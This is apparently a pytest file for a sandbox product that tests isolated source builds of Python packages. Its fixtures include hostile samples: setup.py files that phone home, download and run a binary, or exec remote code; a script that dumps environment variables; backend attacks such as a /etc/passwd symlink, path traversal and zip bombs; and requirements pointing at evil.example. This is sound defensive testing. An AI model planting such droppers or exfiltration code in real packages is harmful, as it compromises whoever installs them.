"""Builds from source of hostile packages: no network, no secrets, nothing but one judged wheel."""

from __future__ import annotations

import json
import os
import select
import shutil
import signal
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path

import anyio
import pytest

import cellwall
from cellwall.admin.emergency_stop import EmergencyStop
from cellwall.admin.package_inventory import sbom_of_record
from cellwall.admin.package_locks import Ecosystem, PackageLocks
from cellwall.admin.templates import Templates
from cellwall.core.approvals import AnswerKind
from cellwall.core.packages import parse_install
from cellwall.core.types import Action
from cellwall.runtime import source_builds
from cellwall.runtime.approvals import CallbackApprover
from cellwall.runtime.home import local_principal
from cellwall.runtime.wiring import open_app
from cellwall.sandbox.linux.cell_search import find_cells
from cellwall.sandbox.run_ledger import cell_tag
from conftest import audit_records
from interfaces.test_cli_process import DEADLINE_S, until
from registries import serve_registries, write_registry_config
from source_archives import BACKEND, add_backend, add_source, project_files
from unit.runtime.questions_for_tests import said

pytestmark = [pytest.mark.slow, pytest.mark.requirement("PKG-3")]

ONLY_COLD = pytest.mark.only_on("cold", reason="the cells are those of every run")
CANARY = "/canary"
ALLOWED = "dangerously_build_sources = true"
# What a build sees and reaches, written into the module that it builds.
WITNESS = """
python3 - <<'EOF'
import json, os, socket, urllib.request

seen = {}

def attempt(name, call):
    try:
        call()
        seen[name] = "reached"
    except BaseException as error:
        seen[name] = type(error).__name__

PORT = int("{port}")
attempt("host", lambda: socket.create_connection(("127.0.0.1", PORT), 10).close())
attempt("registry", lambda: urllib.request.urlopen("https://pypi.org/simple/zebra-atlas/").read())
attempt("canary", lambda: urllib.request.urlopen("{canary}", timeout=10).read())
attempt("program", lambda: open("{program}", "w").close())
attempt("outside", lambda: open("{outside}", "w").close())
seen["interfaces"] = [name for _, name in socket.if_nameindex()]
seen["environment"] = dict(os.environ)
seen["files"] = sorted(os.listdir("/workspace")) if os.path.isdir("/workspace") else []
if os.path.exists("wheel.json"):
    project = json.load(open("wheel.json"))
    project["files"]["witness_zebra.py"] = "SEEN = " + repr(json.dumps(seen))
    json.dump(project, open("wheel.json", "w"))
print(json.dumps(seen))
EOF
"""
# In a backend that is a file of the archive: the attack, and what the refusal says.
HOSTILE = {
    "other-name": ("name = 'zebra_other-1.0-py3-none-any.whl'", "another name or version"),
    "other-version": ("name = '{stem}-2.0-py3-none-any.whl'", "another name or version"),
    "other-python": ("name = '{stem}-1.0-cp39-cp39-linux_x86_64.whl'", "for another Python"),
    "two-wheels": ("open(wheel_directory + '/x.whl', 'w').close()", "exactly one wheel"),
    "no-wheel": ("return 'x.whl'", "exactly one wheel"),
    "link": ("os.symlink('/etc/passwd', wheel_directory + '/' + name); return name", ""),
    "fifo": ("os.mkfifo(wheel_directory + '/' + name); return name", ""),
    "folder": ("os.mkdir(wheel_directory + '/' + name); return name", ""),
    "bomb": ("files['zeros.txt'] = '0' * (64 << 20)", ""),
    "large": ("os.truncate(os.open(name, os.O_CREAT | os.O_RDWR), 600 << 20)", "could not be"),
    "broken": ("raise SystemExit(1)", "could not be"),
    "endless": ("raise SystemExit(75)", "other requirements each time"),
    "start-up": ("files['sitecustomize.py'] = 'x = 1'", "sitecustomize"),
    "traversal": ("files['../../outside.py'] = 'x = 1'", ""),
    "hanging": ("import time; time.sleep(10000)", "the limit wall"),
}
# Refused by the same check as another one, or late.
SIMILAR = {"other-version", "other-python", "no-wheel", "fifo", "folder", "large", "endless"}
BACKEND_IN_ARCHIVE = """
import os, zipfile

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name, stem = "{stem}-1.0-py3-none-any.whl", "{stem}-1.0.dist-info"
    files = {{"{stem}.py": ""}}
    files[stem + "/METADATA"] = "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n"
    files[stem + "/WHEEL"] = "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    {attack}
    files[stem + "/RECORD"] = "".join(path + ",,\\n" for path in [*files, stem + "/RECORD"])
    with zipfile.ZipFile(wheel_directory + "/" + name, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return name
"""
OWN_BACKEND = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n'
# An archive without pyproject.toml; its setup.py is executed.
SETUP_PHONES_HOME = """
import urllib.request
from setuptools import setup
try:
    urllib.request.urlopen("{canary}", timeout=20)
    how = "reached"
except OSError as error:
    how = type(error).__name__
setup(name="phone-zebra", version="1.0", files={{"phone_zebra.py": "HOW = " + repr(how)}})
"""
SETUP_FETCHES_A_COMPILER = """
import os, subprocess, urllib.request
from setuptools import setup
if not os.path.exists("/usr"):
    urllib.request.urlretrieve("{canary}", "compiler")
    subprocess.call(["./compiler"])
setup(name="fetching-zebra", version="1.0", files={{"fetching_zebra.py": ""}})
"""
SETUP_RUNS_A_DOWNLOAD = """
import urllib.request
exec(urllib.request.urlopen("{canary}").read())
from setuptools import setup
setup(name="dropper-zebra", version="1.0", files={{}})
"""

SETUPS = {
    "phone": SETUP_PHONES_HOME,
    "fetching": SETUP_FETCHES_A_COMPILER,
    "dropper": SETUP_RUNS_A_DOWNLOAD,
}


def witness(served, outside="/nowhere/x", program="/usr/bin/planted"):
    texts = {"port": served.base.rpartition(":")[2], "canary": served.base + CANARY}
    script = WITNESS
    for name, text in {**texts, "outside": outside, "program": program}.items():
        script = script.replace(f"{{{name}}}", str(text))
    return script


@pytest.fixture(scope="module")
def outside(tmp_path_factory):
    return tmp_path_factory.mktemp("outside") / "ran"


@pytest.fixture(scope="module")
def registries(outside):
    with serve_registries() as served:
        add_backend(served)
        served.add_wheel("zebra-atlas", "1.0")
        add_source(served, "witness-zebra", configure=witness(served, outside))
        add_source(served, "deep-zebra", needs=["leaf-zebra"])
        add_source(served, "leaf-zebra")
        add_source(served, "curious-zebra", needs=["reqeusts"])
        add_source(served, "reqeusts")
        asking = {"requires": ["zebra-atlas>=1"], "configure": "python -c 'import zebra_atlas'"}
        add_source(served, "asking-zebra", **asking)
        add_source(served, "url-zebra", requires=["zebra-atlas @ https://evil.example/x.whl"])
        add_source(served, "option-zebra", requires=["--index-url=https://evil.example"])
        lacking = project_files("lacking-zebra")
        lacking["pyproject.toml"] = f'[build-system]\nrequires = ["{BACKEND}", "missing-zebra"]\n'
        add_source(served, "lacking-zebra", files=lacking)
        for kind, (attack, _) in {**HOSTILE, "harmless": ("pass", "")}.items():
            name, stem = f"{kind}-zebra", f"{kind.replace('-', '_')}_zebra"
            attack = attack.replace("{stem}", stem)
            code = BACKEND_IN_ARCHIVE.format(name=name, stem=stem, attack=attack)
            add_source(served, name, files={"pyproject.toml": OWN_BACKEND, "own.py": code})
        for name, code in SETUPS.items():
            setup = code.format(canary=served.base + CANARY)
            add_source(served, f"{name}-zebra", files={"setup.py": setup})
        yield served


@pytest.fixture
def configure(tmp_path, registries):
    def write(*lines):
        lines = 'without_feed = "allow"', *lines
        return write_registry_config(tmp_path / "config.toml", registries.base, *lines)

    return write


@pytest.fixture
def config(configure):
    return configure(ALLOWED)


def build(config, *names, answer=None):
    """Build what these packages need, as a template or a lock does."""
    ask = None if answer is None else CallbackApprover(answer)
    app = open_app(config=config)
    try:
        operation = replace(parse_install("pypi", names), only_build=True)
        limits = replace(app.limits, wall_s=120.0, cpu_s=120.0)
        action = Action(principal=local_principal("cli"), operation=operation, limits=limits)
        return anyio.run(partial(app.runtime.perform, action, ask=ask))
    finally:
        app.close()


def built(state_home):
    folder = Path(state_home, "packages", "built")
    return sorted(each.name[65:] for each in folder.iterdir()) if folder.is_dir() else []


def bodies(event):
    return [r["body"] for r in audit_records() if r["body"].get("event") == event]


def texts(outcome):
    error = [] if outcome.error is None else [outcome.error.message]
    return " ".join([*error, *(each.message for each in outcome.findings)])


def test_a_build_has_no_network_no_secret_and_no_file_of_the_session(
    config, registries, outside, monkeypatch, tmp_path
):
    monkeypatch.setenv("HOST_TOKEN", "canary-of-the-host")
    token = {"TOKEN": "canary-of-the-session"}
    with cellwall.Sandbox.create(config=config, timeout=120, envs=token) as sbx:
        sbx.files.write("private.txt", "canary of the workspace")
        done = sbx.packages.install("witness-zebra").raise_for_status()
        assert [each.name for each in done.installed] == ["witness-zebra"]
        seen = json.loads(sbx.run_code("import witness_zebra; witness_zebra.SEEN").value)
        lock = sbx.files.read("pylock.toml")
    reached = {name: how for name, how in seen.items() if isinstance(how, str)}
    assert "reached" not in reached.values(), reached
    assert seen["interfaces"] == ["lo"]
    assert "canary" not in json.dumps(seen["environment"])
    assert not [name for name in seen["environment"] if "proxy" in name.lower()]
    assert {"source", "environment"} <= set(seen["files"])
    assert "private.txt" not in seen["files"]
    assert not outside.exists()
    assert CANARY not in [path for _, path in registries.seen]
    # The wheel is tied to its source, in the lock and in the record.
    (source,) = (each["hashes"]["sha256"] for each in registries.pypi["witness-zebra"]["files"])
    body = bodies("package-built")[-1]
    assert (body["source_sha256"], body["package"]) == (source, "pkg:pypi/witness-zebra@1.0")
    assert f'sha256 = "{source}"' in lock
    assert f'sha256 = "{body["wheel_sha256"]}"' in lock
    (component,) = json.loads(sbom_of_record(done.outcome.action_id))["components"]
    references = {each["type"]: each["hashes"] for each in component["externalReferences"]}
    assert references["source-distribution"] == [{"alg": "SHA-256", "content": source}]
    needed = [each["package"] for each in body["build_requirements"]]
    assert needed == ["pkg:pypi/tiny-backend@1.0"]
    # The controls: the same script reaches the registry from a cell that has it, and the canary
    # and the file from the host.
    with cellwall.Sandbox.create(config=config, timeout=120, registries=["pypi"]) as sbx:
        sbx.files.write("configure", witness(registries))
        assert json.loads(sbx.commands.run("sh configure").stdout)["registry"] == "reached"
    script = witness(registries, tmp_path / "ran", tmp_path / "program")
    ran = subprocess.run(["sh", "-c", script], capture_output=True, check=True, cwd=tmp_path)
    seen = json.loads(ran.stdout)
    assert {seen[name] for name in ("host", "outside", "program")} == {"reached"}
    assert "canary-of-the-host" in json.dumps(seen["environment"])
    assert CANARY in [path for _, path in registries.seen]
    registries.seen.clear()


@ONLY_COLD
@pytest.mark.parametrize(
    "kinds", [HOSTILE.keys() - SIMILAR, pytest.param(SIMILAR, marks=pytest.mark.long)]
)
def test_a_build_that_is_an_attack_leaves_no_wheel(kinds, configure, registries, state_home):
    """One after the other for one user: what asks the cell's Python about itself runs once."""
    for kind in sorted(kinds):
        timeout_s = 2 if kind == "hanging" else 120
        outcome = build(configure(ALLOWED, f"build_timeout_s = {timeout_s}"), f"{kind}-zebra")
        archive = f"/packages/{kind.replace('-', '_')}_zebra-1.0.tar.gz"
        assert archive in [path for _, path in registries.seen]
        assert outcome.status != "ok", (kind, outcome)
        assert HOSTILE[kind][1] in texts(outcome), kind
        assert (built(state_home), bodies("package-built")) == ([], []), kind
    outcome = build(configure(ALLOWED), "harmless-zebra")  # the control
    assert outcome.status == "ok", outcome
    assert built(state_home) == ["harmless_zebra-1.0-py3-none-any.whl.json"]


@ONLY_COLD
@pytest.mark.requirement("OBS-3")
def test_an_emergency_stop_ends_a_build(configure, state_home):
    config, switch = configure(ALLOWED), EmergencyStop.configured(local_principal("cli"))

    def is_building():
        found = find_cells(f"{state_home}/runs", cell_tag(f"{state_home}/runs"))
        return any(is_hanging_build(process.pid) for each in found for process in each.processes)

    try:
        with ThreadPoolExecutor(1) as threads:
            outcome = threads.submit(build, config, "hanging-zebra")
            until(lambda: is_building() or outcome.done())
            assert not outcome.done(), outcome.result()
            assert switch.stop(reason="test").is_complete
            assert find_cells(f"{state_home}/runs", cell_tag(f"{state_home}/runs")) == ()
            assert outcome.result(DEADLINE_S).status != "ok"
        refused = build(config, "harmless-zebra")
        assert (refused.status, refused.error.code) == ("denied", "CW-STOPPED")
        assert built(state_home) == []
    finally:
        assert switch.lift(reason="test")


def is_hanging_build(pid):
    """Whether this is the backend that hangs: its command line names the archive."""
    with suppress(OSError):
        return b"hanging_zebra-1.0.tar.gz" in Path(f"/proc/{pid}/cmdline").read_bytes()
    return False


@ONLY_COLD
def test_requirements_of_a_build_come_from_the_judged_index(config, state_home):
    for name, text in (
        ("url-zebra", "by its URL"),
        ("option-zebra", "cannot be read"),
        ("lacking-zebra", "missing-zebra"),
    ):
        outcome = build(config, name)
        assert outcome.status != "ok", outcome
        assert text in texts(outcome), (name, outcome)
    assert built(state_home) == []
    # The controls: a requirement that only the backend names, and a tree of sources.
    assert build(config, "asking-zebra").status == "ok"
    assert build(config, "deep-zebra").status == "ok"
    wheels = [f"{name}_zebra-1.0-py3-none-any.whl.json" for name in ("asking", "deep", "leaf")]
    assert built(state_home) == wheels


@ONLY_COLD
def test_the_number_of_builds_in_one_installation_is_bounded(config, state_home, monkeypatch):
    monkeypatch.setattr(source_builds, "MAX_BUILDS", 1)
    outcome = build(config, "deep-zebra")
    assert (outcome.status, outcome.error.code) == ("denied", "CW-PACKAGE-REFUSED")
    assert "more than 1 packages would have to be built" in texts(outcome)
    assert built(state_home) == ["deep_zebra-1.0-py3-none-any.whl.json"]


@ONLY_COLD
def test_a_setup_py_that_phones_home_cannot_and_one_that_runs_a_download_is_refused(
    config, registries, state_home
):
    outcome = build(config, "dropper-zebra")
    assert (outcome.status, outcome.error.code) == ("denied", "CW-PACKAGE-REFUSED"), outcome
    assert built(state_home) == []
    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
        sbx.packages.install("phone-zebra").raise_for_status()
        assert sbx.run_code("import phone_zebra; phone_zebra.HOW").value == "URLError"
    assert CANARY not in [path for _, path in registries.seen]


@ONLY_COLD
@pytest.mark.requirement("PKG-2")
def test_a_rule_allows_the_build_of_its_package_alone(configure, state_home):
    config, day = configure(), datetime.now(UTC).date() + timedelta(days=2)
    own = Path(os.environ["XDG_CONFIG_HOME"], "cellwall")
    own.mkdir(parents=True)
    (own / "policy.toml").write_text(
        '[[rule]]\nverdict = "allow"\nrule = "Install(pypi:deep-zebra)"\nlifts = ["source"]\n'
        f"until = {day}\n"
    )
    (own / "policy.toml").chmod(0o600)
    outcome = build(config, "leaf-zebra")
    assert "leaf-zebra 1.0 exists as source only" in texts(outcome)
    assert built(state_home) == []
    outcome = build(config, "deep-zebra")
    assert outcome.status != "ok"  # its dependency may not be built
    assert built(state_home) == ["deep_zebra-1.0-py3-none-any.whl.json"]
    assert {each["rule"] for each in bodies("package-verdict")} == {"Install(pypi:deep-zebra)"}


@ONLY_COLD
def test_package_managers_in_a_sandbox_get_the_wheel_and_never_the_source(config):
    pip = "pip install --disable-pip-version-check --no-input -q --target /tmp/site leaf-zebra"
    with cellwall.Sandbox.create(config=config, timeout=120, registries=["pypi"]) as sbx:
        before = sbx.commands.run(f"{pip} --no-binary :all:")
        assert before.exit_code != 0
        assert "the tool install_package build it" in texts(before.outcome)
        assert build(config, "leaf-zebra").status == "ok"
        assert sbx.commands.run(pip).exit_code == 0
    # A policy that no longer allows the build hides the wheel again.
    file = Path(config)
    file.write_text(file.read_text().replace("sources = true", "sources = false"))
    file = file.rename(file.with_name("later.toml"))
    with cellwall.Sandbox.create(config=str(file), timeout=120, registries=["pypi"]) as sbx:
        after = sbx.commands.run(pip)
        assert after.exit_code != 0
        assert "exists as source only" in texts(after.outcome)


@ONLY_COLD
@pytest.mark.requirement("PKG-4", "PKG-5")
@pytest.mark.long  # three builds; locks and templates have their tests
def test_a_lock_and_a_template_name_the_wheels_that_were_built(config, registries, state_home):
    lock = PackageLocks(local_principal("cli"), config=config).resolve(
        Ecosystem.PYPI, ["deep-zebra"], on_progress=print
    )
    assert [each.name for each in lock.packages] == ["deep-zebra", "leaf-zebra"]
    for name in ("deep-zebra", "leaf-zebra"):
        (source,) = (each["hashes"]["sha256"] for each in registries.pypi[name]["files"])
        assert f"/{source}/".encode() in lock.content
    # The bytes are gone: the template of the lock builds the same wheels again.
    shutil.rmtree(Path(state_home, "packages"))
    made = Templates(config=config).build(
        "zoo", principal=local_principal("cli"), on_progress=print, lock=lock.content
    )
    assert made.packages == (("deep-zebra", "1.0"), ("leaf-zebra", "1.0"))
    assert {"deep_zebra.py", "leaf_zebra.py"} <= set(os.listdir(made.path))


@ONLY_COLD
@pytest.mark.requirement("PKG-2", "POL-8")
def test_a_person_is_asked_before_a_source_is_built(configure, tmp_path, state_home):
    asked = []

    def answer(question, kind):
        asked.append(question.text)
        return said(kind)

    config = configure(ALLOWED)
    outcome = build(config, "curious-zebra", answer=partial(answer, kind=AnswerKind.DENY))
    assert outcome.status == "denied"
    assert "a person was asked and did not allow it" in texts(outcome)
    assert asked == ["pypi:reqeusts"]
    assert built(state_home) == ["curious_zebra-1.0-py3-none-any.whl.json"]
    outcome = build(config, "curious-zebra", answer=partial(answer, kind=AnswerKind.ONCE))
    assert outcome.status == "ok", outcome
    assert asked == ["pypi:reqeusts"] * 2  # one question for the build and for the resolver
    assert "reqeusts-1.0-py3-none-any.whl.json" in built(state_home)
    # The inspection asks about one file, before anything of it runs.
    asked.clear()
    outcome = build(config, "fetching-zebra", answer=partial(answer, kind=AnswerKind.DENY))
    assert outcome.status == "denied"
    assert "fetching_zebra-1.0-py3-none-any.whl.json" not in built(state_home)
    outcome = build(config, "fetching-zebra", answer=partial(answer, kind=AnswerKind.ONCE))
    assert outcome.status == "ok", outcome
    assert [each.split(" ")[0] for each in asked] == ["pypi:fetching-zebra"] * 2
    assert "fetching_zebra-1.0-py3-none-any.whl.json" in built(state_home)


_INSTALL = """
import sys, cellwall
_, config, project, name = sys.argv
show = lambda text: print(text, end="", flush=True)
with cellwall.Sandbox.create(config=config, workspace=project + ":rw", timeout=300) as sbx:
    done = sbx.packages.install(name, on_stdout=show, on_stderr=show)
    sys.exit(not done.installed)
"""


@ONLY_COLD
def test_a_build_that_is_killed_leaves_nothing_and_the_next_one_works(
    config, registries, state_home, tmp_path
):
    project, sleep = tmp_path / "project", f"98{os.getpid()}"
    project.mkdir()
    add_source(registries, "sleeping-zebra", configure=f"echo it builds; exec sleep {sleep}")
    words = [sys.executable, "-c", _INSTALL, config, str(project)]
    with subprocess.Popen([*words, "sleeping-zebra"], stdout=subprocess.PIPE, text=True) as process:
        try:
            assert any("it builds" in line for line in process.stdout)
            deadline = time.monotonic() + 60  # the line is written before the shell runs `sleep`
            while not (sleeping := descriptors_of("sleep", sleep)):
                assert time.monotonic() < deadline
                time.sleep(0.01)
        finally:
            process.send_signal(signal.SIGKILL)
    for each in sleeping:
        assert select.select([each], [], [], 60)[0], "the cell outlives the process"
        os.close(each)
    assert built(state_home) == []
    subprocess.run([*words, "leaf-zebra"], check=True, timeout=300)
    assert built(state_home) == ["leaf_zebra-1.0-py3-none-any.whl.json"]
    assert {each.name for each in project.iterdir()} == {".cellwall-packages", "pylock.toml"}
    assert os.listdir(Path(state_home, "workspaces")) == []


def descriptors_of(*command):
    """Of the processes with this command line."""
    wanted, found = "".join(f"{word}\0" for word in command).encode(), []
    for each in Path("/proc").glob("[0-9]*"):
        try:
            if (each / "cmdline").read_bytes() == wanted:
                found.append(os.pidfd_open(int(each.name)))
        except OSError:  # it has ended
            continue
    return found
